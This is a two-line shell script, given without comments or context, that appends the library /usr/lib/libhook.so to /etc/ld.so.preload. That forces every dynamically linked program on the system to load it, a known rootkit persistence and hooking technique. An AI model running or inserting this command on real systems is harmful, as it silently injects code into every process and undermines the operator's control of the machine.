#!/bin/sh
echo /usr/lib/libhook.so >> /etc/ld.so.preload
